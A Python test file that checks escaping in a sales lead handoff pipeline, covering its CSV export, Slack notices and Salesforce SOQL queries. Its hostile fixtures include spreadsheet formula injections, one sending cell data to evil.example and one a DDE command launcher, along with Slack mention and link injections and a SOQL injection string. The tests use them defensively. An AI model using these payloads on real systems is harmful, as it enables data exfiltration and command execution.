"""Crafted lead data reaches sales as text: never a live Excel formula, never Slack
markup, never SOQL; Salesforce gets the values as they are, as data."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import httpx
import pytest

from nurture.connectors.salesforce import SalesforceClient, soql_id_list
from nurture.escaping import FORMULA_TRIGGERS, csv_cell, mrkdwn
from nurture.handoff.outbox import Entry
from nurture.handoff.run import run_handoff
from nurture.handoff.slack import notice_text
from nurture.warehouse import get_warehouse
from tests.handoff.conftest import DAY, seed_outbox

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "Taro", "=1+1 Inc."),
    ("+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3 K.K."),
    ("\t=evil()", "\r=evil()", "<!channel> <http://evil.example|click here>"),
    ('＝HYPERLINK("http://evil")', "＠me", "Acme & <Sons>"),
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+81-3-1234-5678", "'+81-3-1234-5678"),
        ("-Taro", "'-Taro"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("山田 太郎", "山田 太郎"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_cells_that_would_run_start_with_a_quote(value, cell):
    assert csv_cell(value) == cell


def test_slack_markup_in_lead_data_is_escaped():
    assert mrkdwn("<!channel> & <http://evil|click here>") == (
        "&lt;!channel&gt; &amp; &lt;http://evil|click here&gt;"
    )
    entry = Entry(
        lead_id="L-1",
        cycle=1,
        run_id="r",
        email="a@example.com",
        score=91.0,
        grade="A",
        top_reasons="<!here> visited <http://evil|pricing>; attended 2 webinars",
        created_at=datetime(2026, 9, 30, tzinfo=UTC),
        first_name="<!channel>",
        last_name="Evil",
        company_name="<http://evil.example|Acme>",
    )
    text = notice_text("n1", "<!everyone>", DAY, [entry])
    for markup in ("<!channel>", "<!here>", "<!everyone>", "<http://evil"):
        assert markup not in text
    assert "&lt;!channel&gt;" in text and "attended 2 webinars" in text


def test_soql_id_lists_refuse_what_is_not_a_record_id():
    assert soql_id_list(["00Q000000000001AAA", "00Q000000000002"]) == (
        "'00Q000000000001AAA', '00Q000000000002'"
    )
    with pytest.raises(ValueError, match="not a Salesforce record id"):
        soql_id_list(["00Q000000000001AAA') OR Id != ('"])


def test_hostile_names_reach_feed_slack_and_salesforce_as_text(sandbox, warehouse_settings):
    prefix = f"hostile-{warehouse_settings.warehouse}"
    ids = seed_outbox(warehouse_settings, sandbox, prefix, len(HOSTILE))
    with get_warehouse(warehouse_settings).transaction() as session:
        for lead_id, (last, first, company) in zip(ids, HOSTILE, strict=True):
            session.execute(
                "update marts.dim_lead set last_name = ?, first_name = ?, company_name = ?, "
                "job_title = ? where lead_id = ?",
                [last, first, company, "-Head of IT", lead_id],
            )
    result = run_handoff(warehouse_settings, DAY, connections=sandbox.connections())
    assert {r.target: r.delivered for r in result.results}["csv_feed"] == len(HOSTILE)

    # the feed as Excel reads it: no cell of lead data starts with a formula trigger,
    # and each is the value with one leading quote
    feed = warehouse_settings.feeds_dir / f"mql-{DAY.isoformat()}.csv"
    with open(feed, encoding="utf-8-sig", newline="") as handle:
        rows = [r for r in csv.DictReader(handle) if r["lead_id"] in ids]
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("first_name", "last_name", "company", "title", "email", "reasons"):
            assert not row[column].startswith(FORMULA_TRIGGERS), (column, row[column])
    by_last = {r["last_name"]: r for r in rows}
    for last, first, company in HOSTILE:
        row = by_last[csv_cell(last)]
        assert row["first_name"] == csv_cell(first) and row["company"] == csv_cell(company)
        assert row["title"] == "'-Head of IT"

    # Slack: the notices that name these leads carry no live markup
    messages = httpx.get(f"{sandbox.url}/hooks/slack/_messages").json()["messages"]
    texts = [m["payload"].get("text", "") for m in messages]
    ours = [t for t in texts if any(f"[{lead}]" in t for lead in ids)]
    assert ours
    for text in ours:
        assert "<!channel>" not in text and "<http://evil" not in text

    # Salesforce stores the values verbatim: they are data there, not formulas
    client = SalesforceClient(sandbox.connections()["salesforce"])
    try:
        leads = [
            r
            for page in client.query(
                "SELECT LastName, FirstName, Company, Nurture_Lead_Id__c FROM Lead "
                f"WHERE Nurture_Lead_Id__c LIKE '{prefix}-%'"
            )
            for r in page
        ]
    finally:
        client.close()
    stored = {(r["LastName"], r["FirstName"], r["Company"]) for r in leads}
    assert stored == set(HOSTILE)
